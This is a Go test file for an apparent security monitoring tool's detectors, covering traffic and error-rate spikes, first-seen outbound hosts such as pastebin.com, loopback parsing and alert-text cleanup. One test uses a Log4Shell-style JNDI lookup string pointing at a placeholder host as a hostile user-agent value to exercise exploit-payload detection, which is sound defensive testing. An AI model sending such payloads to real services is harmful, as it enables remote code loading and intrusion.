package detect

import (
	"testing"
	"time"

	"github.com/evidentsec/evident/internal/telemetry"
)

// traffic feeds d n server spans per 10-second bucket, errs of them
// failing, for each of buckets buckets starting at bucket from, and
// returns the alerts.
func traffic(d *Anomalies, from, buckets int, n, errs int) []Alert {
	var out []Alert
	for b := from; b < from+buckets; b++ {
		for i := range n {
			at := tm(float64(b*10) + float64(i)*10/float64(n))
			sp := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindServer, Name: "GET /p", Start: at, End: at,
				Error: i < errs, Attrs: telemetry.Attrs{HTTPMethod: "GET", HTTPRoute: "/p"}}
			out = append(out, d.Observe(&sp, at, at)...)
		}
	}
	return out
}

func kinds(as []Alert) []Kind {
	var out []Kind
	for _, a := range as {
		out = append(out, a.Kind)
	}
	return out
}

func TestAnomalies(t *testing.T) {
	tests := []struct {
		name string
		// baseline traffic per bucket, then the probe bucket, then one
		// more bucket to close it.
		baseN, baseErr, probeN, probeErr int
		warm                             int
		want                             []Kind
	}{
		{"steady", 50, 1, 55, 1, 10, nil},
		{"spike", 50, 1, 400, 1, 10, []Kind{KindRequestRate}},
		{"spike during warm-up", 50, 1, 400, 1, 3, nil},
		{"small spike below min requests", 2, 0, 15, 0, 10, nil},
		{"error burst", 50, 1, 50, 30, 10, []Kind{KindErrorRate}},
		{"few errors below min", 10, 0, 10, 4, 10, nil},
		{"spike with errors", 50, 0, 400, 200, 10, []Kind{KindRequestRate, KindErrorRate}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := NewAnomalies(DefaultAnomalyConfig())
			if got := traffic(d, 0, tt.warm, tt.baseN, tt.baseErr); len(got) > 0 {
				t.Fatalf("baseline fired %v", kinds(got))
			}
			traffic(d, tt.warm, 1, tt.probeN, tt.probeErr)
			got := kinds(traffic(d, tt.warm+1, 1, 1, 0)) // closes the probe bucket
			if len(got) != len(tt.want) {
				t.Fatalf("alerts = %v, want %v", got, tt.want)
			}
			for i := range got {
				if got[i] != tt.want[i] {
					t.Errorf("alerts = %v, want %v", got, tt.want)
				}
			}
		})
	}
}

func TestAnomalyAlert(t *testing.T) {
	d := NewAnomalies(DefaultAnomalyConfig())
	traffic(d, 0, 10, 50, 0)
	traffic(d, 10, 1, 500, 0)
	as := traffic(d, 11, 1, 1, 0)
	if len(as) != 1 {
		t.Fatalf("alerts = %v", kinds(as))
	}
	a := as[0]
	if a.Evidence.Observed != 50 || a.Evidence.Expected < 4.9 || a.Evidence.Expected > 5.1 ||
		a.Evidence.Endpoint != "GET /p" || a.DedupeKey != "request_rate_anomaly|shop|GET /p" {
		t.Errorf("alert = %+v", a)
	}
	// The spike was the bucket of seconds 100 to 110; the first span of
	// the next one closed it.
	if a.Observed != tm(100) || a.ReceivedAt != tm(110) || a.Time != tm(110) {
		t.Errorf("observed, received, time = %v, %v, %v; want the bucket's start, then the next bucket's first span", a.Observed, a.ReceivedAt, a.Time)
	}
}

func TestAnomalySilenceDecays(t *testing.T) {
	d := NewAnomalies(DefaultAnomalyConfig())
	traffic(d, 0, 10, 200, 0)
	// After an hour of silence, normal traffic is no spike.
	if got := traffic(d, 370, 2, 200, 0); len(got) > 0 {
		t.Errorf("after silence: %v", kinds(got))
	}
}

func TestNewHosts(t *testing.T) {
	d := NewAnomalies(DefaultAnomalyConfig())
	call := func(sec float64, attrs telemetry.Attrs) []Alert {
		sp := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindClient, Name: "GET", Start: tm(sec), End: tm(sec), Attrs: attrs}
		return d.Observe(&sp, tm(sec+1), tm(sec+2))
	}
	steps := []struct {
		name  string
		sec   float64
		attrs telemetry.Attrs
		want  Severity // "" for no alert
	}{
		{"learnt in warm-up", 0, telemetry.Attrs{ServerAddress: "api.stripe.com"}, ""},
		{"learnt from url.full", 60, telemetry.Attrs{URLFull: "https://user@hooks.slack.com:443/services/x"}, ""},
		{"known host after warm-up", 600, telemetry.Attrs{ServerAddress: "API.stripe.com"}, ""},
		{"known from url.full", 601, telemetry.Attrs{URLFull: "https://hooks.slack.com/other"}, ""},
		{"new public host", 602, telemetry.Attrs{ServerAddress: "pastebin.com"}, Medium},
		{"same again", 603, telemetry.Attrs{ServerAddress: "pastebin.com"}, ""},
		{"new private host", 604, telemetry.Attrs{URLFull: "http://10.1.2.3:8080/x"}, Low},
		{"loopback ignored", 605, telemetry.Attrs{ServerAddress: "127.0.0.1"}, ""},
		{"database spans are stores", 606, telemetry.Attrs{ServerAddress: "db.internal", DBSystem: "postgresql"}, ""},
	}
	for _, s := range steps {
		got := call(s.sec, s.attrs)
		switch {
		case s.want == "" && len(got) > 0:
			t.Errorf("%s: fired %+v", s.name, got)
		case s.want != "" && (len(got) != 1 || got[0].Kind != KindNewHost || got[0].Severity != s.want):
			t.Errorf("%s: got %+v, want one %s new-host alert", s.name, got, s.want)
		case s.want != "" && (got[0].Observed != tm(s.sec) || got[0].ReceivedAt != tm(s.sec+1) || got[0].Time != tm(s.sec+2)):
			t.Errorf("%s: observed, received, time = %v, %v, %v; want the span's start, then 1 s and 2 s later", s.name, got[0].Observed, got[0].ReceivedAt, got[0].Time)
		}
	}
}

func TestAnomalyConfigValidate(t *testing.T) {
	if err := DefaultAnomalyConfig().Validate(); err != nil {
		t.Fatal(err)
	}
	for name, mod := range map[string]func(*AnomalyConfig){
		"bucket":    func(c *AnomalyConfig) { c.Bucket = 0 },
		"alpha":     func(c *AnomalyConfig) { c.Alpha = 1.5 },
		"warm up":   func(c *AnomalyConfig) { c.WarmUp = 0 },
		"min":       func(c *AnomalyConfig) { c.MinErrors = 0 },
		"factor":    func(c *AnomalyConfig) { c.RateFactor = 0.5 },
		"delta":     func(c *AnomalyConfig) { c.ErrorRateDelta = 0 },
		"max":       func(c *AnomalyConfig) { c.MaxHosts = 0 },
		"services":  func(c *AnomalyConfig) { c.MaxServices = 0 },
		"host warm": func(c *AnomalyConfig) { c.HostWarmUp = -time.Second },
	} {
		t.Run(name, func(t *testing.T) {
			c := DefaultAnomalyConfig()
			mod(&c)
			if err := c.Validate(); err == nil {
				t.Error("Validate = nil")
			}
		})
	}
}

// TestEndpointKey: the baselines' key is the service and the endpoint's
// name, whatever parts the name was made of, and no two services share
// one.
func TestEndpointKey(t *testing.T) {
	key := func(service, a, sep, c string) string { return string(endpointKey(nil, service, a, sep, c)) }
	for _, tc := range []struct {
		name string
		x, y string
		same bool
	}{
		{"route and method, or the span's name", key("shop", "GET", " ", "/p"), key("shop", "", "", "GET /p"), true},
		{"another service", key("shop", "GET", " ", "/p"), key("cart", "GET", " ", "/p"), false},
		{"the service's end taken for the endpoint's start", key("shop", "", "", "GET /p"), key("sho", "", "", "pGET /p"), false},
		{"another endpoint", key("shop", "GET", " ", "/p"), key("shop", "POST", " ", "/p"), false},
	} {
		if got := tc.x == tc.y; got != tc.same {
			t.Errorf("%s: same key %v, want %v", tc.name, got, tc.same)
		}
	}
}

// TestIsLoopback: loopback hosts, named or as IPv4 and IPv6 addresses,
// and host names, which are not parsed as addresses.
func TestIsLoopback(t *testing.T) {
	for host, want := range map[string]bool{
		"localhost": true, "127.0.0.1": true, "127.8.9.10": true, "::1": true, "0:0:0:0:0:0:0:1": true, "::ffff:127.0.0.1": true,
		"": false, "api.stripe.com": false, "10.0.0.1": false, "fe80::1": false, "127.0.0.1.nip.io": false, "a::1": false,
	} {
		if got := isLoopback(host); got != want {
			t.Errorf("isLoopback(%q) = %v, want %v", host, got, want)
		}
	}
}

// TestAlertText: a span whose name, route or host holds a NUL or bytes
// that are not UTF-8 (a path a request chose, decoded from /a%00b)
// makes an alert whose summary and dedupe key are Text, as the store
// keeps them: the key it seeds a router with after a restart is the one
// the detection makes again. Before, the detection kept the bytes, and
// the alert fired again after a restart.
func TestAlertText(t *testing.T) {
	rules := mustRules(t)
	fire := map[string]func(name string) []Alert{
		"exploit payload": func(name string) []Alert {
			sp := spanWith("user_agent.original", "${jndi:ldap://x.example/a}")
			sp.Attrs.HTTPRoute = name
			return exploits(rules, &sp, nil, tm(0), tm(1))
		},
		"new outbound host": func(name string) []Alert {
			d := NewAnomalies(DefaultAnomalyConfig())
			for _, sec := range []float64{0, 600} {
				sp := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindClient, Name: "GET", Start: tm(sec), End: tm(sec),
					Attrs: telemetry.Attrs{ServerAddress: "api" + name + ".example"}}
				if sec == 0 {
					sp.Attrs.ServerAddress = "known.example"
				}
				if as := d.Observe(&sp, tm(sec), tm(sec)); sec > 0 {
					return as
				}
			}
			return nil
		},
	}
	// Each with the NUL or the byte that is not UTF-8 as U+FFFD, and
	// nothing else of the text lost.
	want := map[string][2]string{
		"exploit payload":   {"jndi-injection payload (jndi-lookup) in user_agent.original of shop GET /a\ufffdb", "exploit_payload|shop|GET /a\ufffdb|jndi-lookup"},
		"new outbound host": {"shop called api/a\ufffdb.example for the first time", "new_outbound_host|shop|api/a\ufffdb.example"},
	}
	for _, name := range []string{"/a\x00b", "/a\xffb"} {
		for kind, f := range fire {
			t.Run(kind+" "+name, func(t *testing.T) {
				as := f(name)
				if len(as) != 1 {
					t.Fatalf("alerts = %+v, want one", as)
				}
				if got := [2]string{as[0].Summary, as[0].DedupeKey}; got != want[kind] {
					t.Errorf("summary, dedupe key = %q, want %q", got, want[kind])
				}
			})
		}
	}
}
